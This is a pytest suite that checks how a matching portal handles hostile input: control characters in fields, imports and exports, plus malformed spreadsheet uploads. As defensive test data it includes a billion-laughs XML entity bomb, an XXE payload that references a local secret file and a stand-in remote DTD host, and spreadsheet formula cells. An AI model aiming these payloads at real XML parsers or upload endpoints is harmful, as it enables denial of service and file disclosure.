"""Issue 12, hostile input: control characters at every input, and malformed spreadsheets.

Written as an attacker would: each test feeds the portal what a browser, a CLI or an uploaded
file can carry and checks that it is refused with one clear message, that nothing is written,
and that every export still works over what an older database already holds.
"""
from __future__ import annotations

import csv
import io
import random
import zipfile

import openpyxl
import pytest

from matching import (
    accounts,
    audit,
    challenges,
    feedback,
    i18n,
    importexport,
    models,
    pairings,
    teams,
    terms,
)
from matching import db as storage
from matching.errors import AuthenticationFailed, ValidationFailed
from matching.importexport import EXPORT_KINDS, export_bytes, preview, read_upload
from tests.conftest import ACCESSIBILITY, PASSWORD

pytestmark = pytest.mark.backends("sqlite", "postgresql")  # issue 15: both storage backends

CONTROL = "validation.control_chars"

#: What a single-line field must refuse, and what a multi-line one must still refuse.
SINGLE_LINE_BAD = ["\x07", "\x1b[31m", "\x01", "\x00", "\t", "\n", "\r", "\x7f", "\x85", "\u2028", "\u2029",
                   "\u202e", "\u2066", "\ud800", "\ufffe"]
MULTI_LINE_BAD = ["\x07", "\x1b[2J", "\x00", "\x0b", "\x0c", "\x7f", "\x9b", "\u2028", "\u2029", "\u202e",
                  "\udfff", "\uffff"]


# --- Class 1: control characters -------------------------------------------------------------

def test_the_new_messages_exist_in_both_languages():
    for key in (CONTROL, "data.utf16", "data.cell_too_long", "error.unexpected"):
        assert i18n.has(key), key
        assert i18n.t(key, "en", id="X", limit=1) != i18n.t(key, "fr", id="X", limit=1), key


@pytest.mark.parametrize("bad", SINGLE_LINE_BAD)
def test_check_text_refuses_invisible_characters_on_one_line(bad):
    assert models.check_text(f"Title{bad}here") == CONTROL


@pytest.mark.parametrize("bad", MULTI_LINE_BAD)
def test_check_text_refuses_invisible_characters_in_multi_line_text(bad):
    assert models.check_text(f"Line{bad}here", multiline=True) == CONTROL


def test_check_text_keeps_ordinary_text_accents_tabs_and_newlines_where_allowed():
    for text in ("Équipe « Bleue » — 2027", "Ça va ? Oui ! 😀", "日本語", "naïve café", "", None, 42):
        assert models.check_text(text) is None, text
    assert models.check_text("One line\nanother\r\nand\ta tab", multiline=True) is None
    assert models.check_text("Zero\u200dwidth joiner in 👩\u200d💻") is None   # emoji sequences stay


def test_is_email_refuses_control_characters():
    assert models.is_email("ana@x.ca")
    for bad in ("ana\x01@x.ca", "ana@x.ca\x1b", "\x07ana@x.ca", "ana\u2028@x.ca", "ana\u202e@x.ca", "an\x7fa@x.ca"):
        assert not models.is_email(bad), repr(bad)


@pytest.mark.parametrize("field, value, multiline", [
    ("title", "Bell\x07title", False), ("sme_name", "Sam\x1bExpert", False),
    ("problem", "x" * 50 + "\x00", True), ("outcomes", "Outcomes\u2028more", True),
])
def test_validate_challenge_refuses_control_characters_field_by_field(field, value, multiline):
    data = {**ACCESSIBILITY, field: value}
    for for_submit in (False, True):
        assert models.validate_challenge(data, for_submit=for_submit)[field] == CONTROL
    # Multi-line fields keep their line breaks and tabs.
    if multiline:
        good = {**ACCESSIBILITY, field: ACCESSIBILITY[field] + "\n\n- point one\n\t- point two"}
        assert field not in models.validate_challenge(good, for_submit=True)


def test_validate_challenge_refuses_a_newline_in_a_title_and_escape_in_a_theme():
    errors = models.validate_challenge({**ACCESSIBILITY, "title": "Two\nlines", "themes": ["ok", "bad\x1btheme"]},
                                       for_submit=True)
    assert errors["title"] == CONTROL and errors["themes"] == CONTROL
    errors = models.validate_challenge({**ACCESSIBILITY, "sme_email": "sme\x01@esdc.gc.ca"}, for_submit=True)
    assert errors["sme_email"] == CONTROL


def test_validate_team_refuses_control_characters_in_every_field():
    team = {"name": "Blue\x07Water", "program": "Design\x1b", "past_work": "Good\n\tbut\x00bad",
            "skills": ["ok", "esc\x1bape"], "interests": ["line\u2028sep"], "language": "en",
            "members": [{"name": "Ana\x01", "email": "ana\x01@x.ca", "program_year": "Y\x07"}]}
    errors = models.validate_team(team)
    for key in ("name", "program", "past_work", "skills", "interests", "members.0.name", "members.0.email",
                "members.0.program_year"):
        assert errors.get(key) == CONTROL, (key, errors)
    ok = {"name": "Blue Water", "past_work": "Line one\nline two\ttabbed", "skills": ["a"], "members": []}
    assert models.validate_team(ok) == {}


def test_validate_term_user_preferences_and_feedback_refuse_control_characters():
    assert models.validate_term({"name": "Winter\x1b2027"})["name"] == CONTROL
    user = {"email": "x\x01@y.ca", "name": "Ana\x07", "role": "facilitator"}
    assert models.validate_user(user) == {"email": CONTROL, "name": CONTROL}
    prefs = [{"challenge_id": 1, "reason": "Because\x1b[2J"}, {"challenge_id": 2, "reason": "We like\nit"}]
    assert models.validate_preferences(prefs, {1, 2}) == {"preferences.0.reason": CONTROL}
    data = {"scores": {c: 4 for c in models.RUBRIC}, "comments": "Good\x07"}
    assert models.validate_feedback(data, for_submit=True) == {"comments": CONTROL}
    assert models.validate_feedback({**data, "comments": "Good\n\twork"}, for_submit=True) == {}


def test_forms_refuse_control_characters_and_write_nothing(db, world):
    rep = world["rep_esdc"]
    before = db.execute("SELECT COUNT(*) FROM challenges").fetchone()[0]
    with pytest.raises(ValidationFailed) as info:
        challenges.save_draft(db, rep, {**ACCESSIBILITY, "title": "Bell\x07"})
    assert info.value.errors == {"title": CONTROL}
    assert db.execute("SELECT COUNT(*) FROM challenges").fetchone()[0] == before
    with pytest.raises(ValidationFailed) as info:
        teams.save_team(db, world["student_a"], world["team_a"], {"name": "Access Crew", "skills": ["esc\x1b"],
                                                                  "members": [{"name": "Ana Lopez",
                                                                               "email": "ana.lopez@sheridancollege.ca"}]})
    assert info.value.errors.get("skills") == CONTROL
    with pytest.raises(ValidationFailed) as info:
        terms.create_term(db, world["facilitator"], {"name": "Fall\x00 2027", "state": "planning"})
    assert info.value.errors == {"name": CONTROL}
    with pytest.raises(ValidationFailed) as info:
        accounts.create_user(db, world["facilitator"], {"email": "new\x01@x.ca", "name": "New", "role": "facilitator"},
                             PASSWORD)
    assert info.value.errors["email"] == CONTROL


def test_free_text_services_refuse_control_characters(db, world, approved):
    fac = world["facilitator"]
    rep = world["rep_esdc"]
    draft = challenges.save_draft(db, rep, {**ACCESSIBILITY, "title": "Another challenge"})
    challenges.submit(db, rep, draft.id)
    attempts = [
        ("comments", lambda: challenges.return_for_changes(db, fac, draft.id, "Fix\x1b[2J this")),
        ("reason", lambda: challenges.archive(db, fac, draft.id, reason="gone\x07")),
        ("reason", lambda: challenges.change_sme(db, fac, approved["accessibility"], "Sam", "sme@esdc.gc.ca",
                                                 reason="new\x00")),
        ("sme_name", lambda: challenges.change_sme(db, fac, approved["accessibility"], "Sam\x1b", "sme2@esdc.gc.ca",
                                                   reason="hand-over")),
        ("reason", lambda: pairings.ban(db, fac, world["term"], world["team_a"], approved["fisheries"], "no\x07")),
        ("reason", lambda: terms.advance_term(db, fac, world["term"], reason="why\u2028not")),
        ("name", lambda: feedback.create_round(db, fac, world["term"], "Round\x1b1", "2027-02-01")),
        ("note", lambda: challenges.propose_revision(db, rep, approved["accessibility"],
                                                     {"outcomes": "New outcomes."}, note="note\x07")),
    ]
    for field, attempt in attempts:
        with pytest.raises(ValidationFailed) as info:
            attempt()
        assert info.value.errors.get(field) == CONTROL, (field, info.value.errors)
    assert challenges.get_challenge(db, fac, draft.id).status == "submitted"
    assert not audit.events(db, action="challenge.archive")
    # Multi-line reasons and comments keep their line breaks.
    challenges.return_for_changes(db, fac, draft.id, "Please fix:\n\t- the title\r\n\t- the outcomes")


def test_feedback_comments_and_replies_refuse_control_characters(db, world, approved):
    fac = world["facilitator"]
    teams.save_preferences(db, world["student_a"], world["team_a"], [{"challenge_id": approved["fisheries"]}])
    pairings.run_assignment(db, fac, world["term"])
    terms.advance_term(db, fac, world["term"])
    pairings.publish(db, fac, world["term"])
    terms.advance_term(db, fac, world["term"])
    feedback.create_round(db, fac, world["term"], "Discovery", "2027-02-01")
    entry = storage.one(db, "SELECT id FROM feedback_entries WHERE expert_id = ?", [world["expert"].id])["id"]
    scores = {c: 4 for c in models.RUBRIC}
    with pytest.raises(ValidationFailed) as info:
        feedback.submit(db, world["expert"], entry, scores, "Nice\x1b[31m work")
    assert info.value.errors == {"comments": CONTROL}
    feedback.submit(db, world["expert"], entry, scores, "Nice work.\n\nNext:\tmore tests.")
    with pytest.raises(ValidationFailed) as info:
        feedback.reply(db, world["student_a"], entry, "Thanks\x07")
    assert info.value.errors == {"reply": CONTROL}


def test_a_sign_in_with_a_control_character_in_the_email_is_not_stored_as_typed(db, world):
    with pytest.raises(AuthenticationFailed):
        accounts.authenticate(db, "ghost\x01@x.ca", "whatever-password")
    failed = audit.events(db, action="auth.sign_in_failed")[0]
    assert "\x01" not in failed["actor_email"]
    export_bytes(db, world["facilitator"], "audit", "xlsx")


#: What an older portal (before these checks) may hold; SQLite cannot even store a lone surrogate.
PLANTED = {"controls": "\x07\x1b[31m\x01\u2028\x85\ufffe", "nul": "\x07\x1b[31m\x00\x01\u2028\x85\ufffe"}


def _hostile_old_database(db, world, approved, bad):
    """What an older portal (before these checks) may already hold: control characters
    everywhere, written straight into the tables."""
    db.execute("UPDATE challenges SET title = title || ?, problem = problem || ?, comments = ?",
               [bad, bad, "c" + bad])
    db.execute("UPDATE teams SET name = name || ?, skills = ?, past_work = ?",
               [bad, '["esc\\u001bape"]', "p" + bad])
    db.execute("UPDATE members SET name = name || ?", [bad])
    db.execute("UPDATE users SET name = name || ? WHERE role = 'expert'", [bad])
    db.execute("UPDATE terms SET name = name || ?", [bad])
    audit.record(db, None, "auth.sign_in_failed", target_type="user", actor_email="ghost\x01@x.ca", reason=bad,
                 detail={"typed": bad})
    db.conn.commit()


@pytest.mark.parametrize("planted", ["controls", pytest.param("nul", marks=pytest.mark.sqlite_only(
    "PostgreSQL's text cannot hold a NUL character at all, so no PostgreSQL database can already hold one"))])
def test_every_export_works_over_control_characters_already_stored(db, world, approved, planted):
    fac = world["facilitator"]
    teams.save_preferences(db, world["student_a"], world["team_a"], [{"challenge_id": approved["fisheries"]}])
    pairings.run_assignment(db, fac, world["term"])
    _hostile_old_database(db, world, approved, PLANTED[planted])
    for kind in EXPORT_KINDS:
        for fmt in ("xlsx", "csv"):
            for lang in ("en", "fr"):
                data = export_bytes(db, fac, kind, fmt, lang, term_id=world["term"])
                assert data, (kind, fmt)
                if fmt == "csv":
                    text = data.decode("utf-8-sig")
                    assert not any(ch in text for ch in "\x00\x01\x07\x1b\ufffe"), kind
                else:
                    book = openpyxl.load_workbook(io.BytesIO(data))
                    cells = [c for row in book.active.iter_rows(values_only=True) for c in row if isinstance(c, str)]
                    assert not any(ch in c for c in cells for ch in "\x00\x01\x07\x1b\ufffe"), kind
    challenges_csv = export_bytes(db, fac, "challenges", "csv").decode("utf-8-sig")
    assert "\ufffd" in challenges_csv    # replaced, visibly, rather than silently dropped


def test_to_xlsx_and_to_csv_clean_any_cell_and_header():
    headers = ["Title\x07", "Skills\ud800"]
    rows = [["a\x00b", "c\x1bd"], [1, None], ["=cmd\x07", "fine\nmulti\tline"]]
    book = openpyxl.load_workbook(io.BytesIO(importexport.to_xlsx(headers, rows)))
    values = list(book.active.iter_rows(values_only=True))
    assert values[0] == ("Title\ufffd", "Skills\ufffd")
    assert values[1] == ("a\ufffdb", "c\ufffdd")
    assert values[3] == ("'=cmd\ufffd", "fine\nmulti\tline")
    text = importexport.to_csv(headers, rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["a\ufffdb", "c\ufffdd"]


def test_an_import_with_control_characters_is_refused_row_by_row(db, world):
    data = ("department,title,problem,outcomes,themes,capacity,sme_name,sme_email,unclassified\n"
            'ESDC,Bell\x07title,"' + "p" * 50 + '",Outcomes,a;b,1,Sam,sme@esdc.gc.ca,yes\n').encode()
    report = preview(db, world["facilitator"], "challenges", read_upload(data, "c.csv"))
    assert {(p["row"], p["field"], p["key"]) for p in report.problems} == {(2, "title", CONTROL)}


# --- Class 2: malformed spreadsheets ---------------------------------------------------------

def _good_xlsx(rows=None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows or [["department", "title", "capacity"], ["ESDC", "A title", 2]]:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _replace_parts(data: bytes, parts: dict[str, bytes | None]) -> bytes:
    """The same .xlsx with some zip members replaced (None drops one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename in parts:
                if parts[item.filename] is not None:
                    target.writestr(item.filename, parts[item.filename])
            else:
                target.writestr(item, source.read(item.filename))
        for name, content in parts.items():
            if content is not None and name not in source.namelist():
                target.writestr(name, content)
    return out.getvalue()


def _refused(data: bytes, filename: str = "upload.xlsx") -> str:
    with pytest.raises(ValidationFailed) as info:
        read_upload(data, filename)
    assert set(info.value.errors) == {"file"}
    key = info.value.errors["file"]
    assert i18n.has(key) and i18n.t(key, "fr", **info.value.params) != key
    return key


def test_a_good_xlsx_still_reads():
    assert read_upload(_good_xlsx(), "c.xlsx") == [{"department": "ESDC", "title": "A title", "capacity": "2"}]


def test_a_truncated_xlsx_is_refused_with_one_sentence():
    data = _good_xlsx()
    for cut in (10, len(data) // 3, len(data) // 2, len(data) - 30):
        assert _refused(data[:cut]) == "data.unreadable"


def test_an_xlsx_without_worksheets_is_refused():
    workbook = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships"><sheets/></workbook>')
    data = _replace_parts(_good_xlsx(), {"xl/workbook.xml": workbook, "xl/worksheets/sheet1.xml": None})
    assert _refused(data) == "data.unreadable"


@pytest.mark.parametrize("styles", [b"not xml at all", b"<styleSheet><numFmts><numFmt/></numFmts></styleSheet>",
                                    (b'<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/'
                                     b'spreadsheetml/2006/main"><cellXfs count="1"><xf numFmtId="abc"/></cellXfs>'
                                     b'</styleSheet>')])
def test_a_broken_styles_part_is_refused(styles):
    assert _refused(_replace_parts(_good_xlsx(), {"xl/styles.xml": styles})) == "data.unreadable"


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                    b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml",
                                  "[Content_Types].xml"])
def test_entity_expansion_is_refused_never_expanded(part):
    assert _refused(_replace_parts(_good_xlsx(), {part: BILLION_LAUGHS})) == "data.unreadable"


def test_external_entities_are_never_fetched(tmp_path, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-SERVER-FILE")
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("the XML parser tried to reach the network")
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    for target in (secret.as_uri().encode(), b"http://198.51.100.7/evil.dtd"):
        sheet = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "' + target + b'">]>'
                 b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                 b'<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>'
                 b'<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>')
        assert _refused(_replace_parts(_good_xlsx(), {"xl/worksheets/sheet1.xml": sheet})) == "data.unreadable"


def test_entity_declarations_are_refused_before_any_xml_parser_sees_them(monkeypatch):
    """Even where defusedxml were missing, a DTD never reaches openpyxl (stdlib expat would
    otherwise raise a bare ParseError, or expand entities up to its own limit)."""
    parsed = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *args, **kwargs: parsed.append(args))
    for part in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "docProps/core.xml"):
        hostile = _replace_parts(_good_xlsx(), {part: BILLION_LAUGHS})
        assert _refused(hostile) == "data.unreadable"
    utf16 = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16")
    assert _refused(_replace_parts(_good_xlsx(), {"xl/styles.xml": utf16})) == "data.unreadable"
    assert parsed == []


def test_openpyxl_parses_through_defusedxml():
    import openpyxl.xml
    from openpyxl.xml import functions
    assert openpyxl.xml.DEFUSEDXML
    assert functions.iterparse.__module__.startswith("defusedxml")
    from tests.conftest import ROOT
    assert '"defusedxml>=' in (ROOT / "pyproject.toml").read_text()


def test_random_damage_to_an_xlsx_never_escapes_as_a_traceback():
    data = bytearray(_good_xlsx([["department", "title", "problem"]] + [["ESDC", f"T{i}", "p" * 40] for i in range(30)]))
    rng = random.Random(12)
    for _ in range(150):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        try:
            rows = read_upload(bytes(damaged), "damaged.xlsx")
        except ValidationFailed as err:
            assert set(err.errors) == {"file"}
        else:
            assert isinstance(rows, list)


def test_real_formula_cells_in_an_xlsx_are_refused_row_by_row(db, world):
    rows = [["department", "title", "problem", "outcomes", "themes", "capacity", "sme_name", "sme_email",
             "unclassified", "status"],
            ["ESDC", "Formula capacity", "p" * 50, "Outcomes", "a;b", "=5+5", "Sam", "sme@esdc.gc.ca", "yes", "draft"],
            ["ESDC", "Formula status", "p" * 50, "Outcomes", "a;b", 1, "Sam", "sme@esdc.gc.ca", "yes",
             '=IF(1>0,"draft","submitted")'],
            ["ESDC", "Clean", "p" * 50, "Outcomes", "a;b", 1, "Sam", "sme@esdc.gc.ca", "yes", "draft"]]
    data = _good_xlsx(rows)
    read = read_upload(data, "c.xlsx")
    report = preview(db, world["facilitator"], "challenges", read)
    problems = {(p["row"], p["field"], p["key"]) for p in report.problems}
    assert problems == {(2, "capacity", "data.formula_cell"), (3, "status", "data.formula_cell")}
    before = db.execute("SELECT COUNT(*) FROM challenges").fetchone()[0]
    with pytest.raises(importexport.ImportRejected):
        importexport.commit(db, world["facilitator"], "challenges", read)
    assert db.execute("SELECT COUNT(*) FROM challenges").fetchone()[0] == before


def test_an_array_formula_is_a_formula_too():
    from openpyxl.worksheet.formula import ArrayFormula
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["department", "capacity"])
    sheet["A2"] = "ESDC"
    sheet["B2"] = ArrayFormula("B2", "=SUM(1,2)")
    buffer = io.BytesIO()
    book.save(buffer)
    rows = read_upload(buffer.getvalue(), "c.xlsx")
    assert rows[0]["capacity"].startswith("=")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_csv_is_named_as_such(encoding):
    text = "department,title\nESDC,Benefits finder\n"
    assert _refused(text.encode(encoding), "c.csv") == "data.utf16"
    assert "UTF-16" in i18n.t("data.utf16", "en") and "UTF-16" in i18n.t("data.utf16", "fr")


@pytest.mark.parametrize("filename", ["c.csv", "c.xlsx"])
def test_a_one_megabyte_cell_is_named_as_such(filename):
    huge = "x" * 1_000_000
    # (openpyxl itself cuts a cell it writes to 32,767 characters: the hostile sheet is written by hand)
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>department</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>problem</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is>'
             f'<t>ESDC</t></is></c><c r="B2" t="inlineStr"><is><t>{huge}</t></is></c></row></sheetData></worksheet>')
    data = (f"department,title,problem\nESDC,Big,{huge}\n".encode() if filename.endswith(".csv")
            else _replace_parts(_good_xlsx(), {"xl/worksheets/sheet1.xml": sheet.encode()}))
    with pytest.raises(ValidationFailed) as info:
        read_upload(data, filename)
    assert info.value.errors == {"file": "data.cell_too_long"}
    limit = info.value.params["limit"]
    assert limit == importexport.MAX_CELL_CHARS
    assert str(limit) in i18n.t("data.cell_too_long", "en", limit=limit)


def test_a_binary_file_named_csv_is_unreadable_not_garbage():
    assert _refused(b"\x00\x01\x02PK\x03\x04" * 100, "c.csv") == "data.unreadable"
